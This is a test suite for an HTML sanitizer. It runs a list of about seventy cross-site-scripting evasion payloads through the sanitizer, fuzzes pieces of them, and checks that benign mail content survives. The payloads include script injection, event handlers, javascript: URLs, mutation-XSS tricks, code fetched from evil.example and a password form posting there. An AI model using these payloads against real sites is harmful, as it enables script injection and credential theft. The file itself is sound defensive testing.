import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { type DefaultTreeAdapterMap, parseFragment } from "parse5";
import { MAX_HTML_BYTES, sanitizeHtml } from "./sanitize.ts";

type Node = DefaultTreeAdapterMap["childNode"];
type Element = DefaultTreeAdapterMap["element"];

const clean = (html: string) => sanitizeHtml(html, () => 0);

const TAGS = new Set(
  (
    "a abbr address article b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em " +
    "font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section small span strike " +
    "strong sub sup table tbody td tfoot th thead tr tt u ul var wbr"
  ).split(" "),
);
const ATTRIBUTES = new Set(
  (
    "align alt bgcolor border cellpadding cellspacing color colspan data-src dir height href lang rel rowspan size start " +
    "target type valign width"
  ).split(" "),
);

function elementsOf(nodes: readonly Node[]): Element[] {
  return nodes.flatMap((node) => ("tagName" in node ? [node, ...elementsOf(node.childNodes)] : []));
}

/** All that a browser would find in it that could run, load, be sent, cover something or lead somewhere unexpected. */
function harmIn(html: string): string[] {
  const { childNodes } = parseFragment(html);
  return elementsOf(childNodes).flatMap(({ tagName, attrs, namespaceURI }) => {
    const values = new Map(attrs.map(({ name, value }) => [name, value]));
    const unknown = [...values.keys()].filter((name) => !ATTRIBUTES.has(name));
    const href = values.get("href");
    const leadsOut =
      values.get("target") === "_blank" && values.get("rel") === "noopener noreferrer nofollow";
    const source = values.get("data-src");
    return [
      ...(TAGS.has(tagName) && namespaceURI === "http://www.w3.org/1999/xhtml" ? [] : [`<${tagName}>`]),
      ...unknown.map((name) => `${tagName} ${name}`),
      ...(href === undefined || (/^(https?:\/\/|mailto:)/.test(href) && leadsOut) ? [] : [`href ${href}`]),
      ...(source === undefined || /^https?:\/\//.test(source) ? [] : [`data-src ${source}`]),
    ];
  });
}

/** Known ways past filters: OWASP's evasion list, the mutations of browsers' parsers, and what mail clients fell for. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/x>alert(1)</script >",
  "<<SCRIPT>alert(1);//<</SCRIPT>",
  "<script\x00>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://a.example/" onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  "<img/src=`x`/onerror=alert(1)>",
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src=https://a.example/ srcset="https://spy.example/1.gif 2x">',
  '<img src="cid:part1@example.com">',
  '<img lowsrc="https://spy.example/1.gif" dynsrc="https://spy.example/2.gif">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/v1/customer">x</a>',
  '<a href="https://a.example" target="_self" rel="opener">x</a>',
  '<a href="https://a.example" ping="https://spy.example" onmouseover=alert(1)>x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  '<title><img title="</title><img src onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
  "<applet code=x archive=https://evil.example/x.jar></applet>",
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style><!--</style><script>alert(1)//--></script>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p style="position:fixed;inset:0">covers the page</p>',
  '<table background="javascript:alert(1)"><td background=https://spy.example/1.gif></table>',
  "<body onload=alert(1) background=https://spy.example/1.gif>",
  "<form action=https://evil.example><input name=password><button>Log in</button></form>",
  "<button formaction=javascript:alert(1)>x</button><isindex action=javascript:alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video src=https://spy.example/1 onerror=alert(1)><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio><bgsound src=javascript:alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  "<p id=createElement name=body class=modal>clobbers</p><a id=config name=config href=https://a.example>x</a>",
  "<b onclick=alert(1) onclick=alert(2)/onmouseover=alert(3)>x</b>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<plaintext><img src=x onerror=alert(1)>",
  "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
];

test("the list has enough ways in, and its check sees the harm that is in most", () => {
  expect(ATTACKS.length).toBeGreaterThanOrEqual(40);
  expect(ATTACKS.filter((attack) => harmIn(attack).length > 0).length).toBeGreaterThanOrEqual(60);
});

test.each(ATTACKS)("nothing of %j runs, loads, is sent or leads astray", async (attack) => {
  for (const html of [attack, `<p>${attack}</p>`, `<table><tr><td>${attack}`, `<svg>${attack}`])
    expect(harmIn((await clean(html)) ?? "null")).toEqual([]);
});

test("nor does anything that is put together of such, cut anywhere", async () => {
  const pieces = fc.oneof(
    fc.constantFrom(...ATTACKS),
    fc.constantFrom(
      "<",
      ">",
      '"',
      "'",
      "`",
      "--",
      "</",
      "<!--",
      "-->",
      "<p ",
      "<a href=",
      "<img src=",
      "=",
      " ",
      "&",
    ),
    fc.tuple(fc.constantFrom(...ATTACKS), fc.nat({ max: 80 })).map(([attack, at]) => attack.slice(at)),
    fc.string({ maxLength: 5 }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(pieces, { maxLength: 8 }), async (parts) => {
      expect(harmIn((await clean(parts.join(""))) ?? "null")).toEqual([]);
    }),
    { numRuns: 1_000 },
  );
});

describe("what a person wrote", () => {
  test("stays: text, tables, lists and links, which open elsewhere and tell nobody where from", async () => {
    const html =
      '<html><head><title>Re: Hi</title></head><body><table width="600"><tr><td colspan="2" bgcolor="#fff">' +
      'Caf&eacute; &amp; <b>more</b></td></tr></table><ul><li><a href="https://example.com/a?b=1&amp;c=2">here</a>, ' +
      '<a href="mailto:ann@example.com">Ann</a></li></ul></body></html>';
    const elsewhere = 'rel="noopener noreferrer nofollow" target="_blank"';
    expect(await clean(html)).toBe(
      '<table width="600"><tr><td colspan="2" bgcolor="#fff">Café &amp; <b>more</b></td></tr></table><ul><li>' +
        `<a href="https://example.com/a?b=1&amp;c=2" ${elsewhere}>here</a>, ` +
        `<a href="mailto:ann@example.com" ${elsewhere}>Ann</a></li></ul>`,
    );
  });

  test("stays beside an image, of which the address is kept and nothing is loaded", async () => {
    expect(await clean('<p>x<img src="HTTPS://Spy.Example/1.gif" alt="A cat" width=1></p>')).toBe(
      '<p>x<img data-src="https://spy.example/1.gif" alt="A cat" width="1" /></p>',
    );
    for (const src of ["cid:1@x", "data:image/png;base64,AAAA", "/1.gif", "//spy.example/1.gif", "1.gif", ""])
      expect(await clean(`<p>x<img src="${src}" alt="A cat"></p>`)).toBe("<p>x</p>");
  });

  test("stays when a link leads nowhere it may", async () => {
    expect(await clean('<a href="javascript:alert(1)">a</a><a href="/b" title=x>b</a>')).toBe(
      "<a>a</a><a>b</a>",
    );
  });
});

describe("what is too much", () => {
  test("is not shown when it is larger than 2 MB", async () => {
    expect(await clean("x".repeat(MAX_HTML_BYTES))).toHaveLength(MAX_HTML_BYTES);
    expect(await clean("é".repeat(MAX_HTML_BYTES / 2 + 1))).toBeNull();
  });

  test("is not shown when it takes too long", async () => {
    let time = 0;
    const slow = () => {
      time += 10;
      return time;
    };
    expect(await sanitizeHtml("<b>x</b>".repeat(10), slow)).not.toBeNull();
    expect(await sanitizeHtml("<b>x</b>".repeat(1_000), slow)).toBeNull();
  });

  test("ends at a depth that a browser bears", async () => {
    const depth = (html: string | null) => (html ?? "").split("<div>").length - 1;
    expect(depth(await clean("<div>".repeat(10_000)))).toBeLessThanOrEqual(100);
  });
});
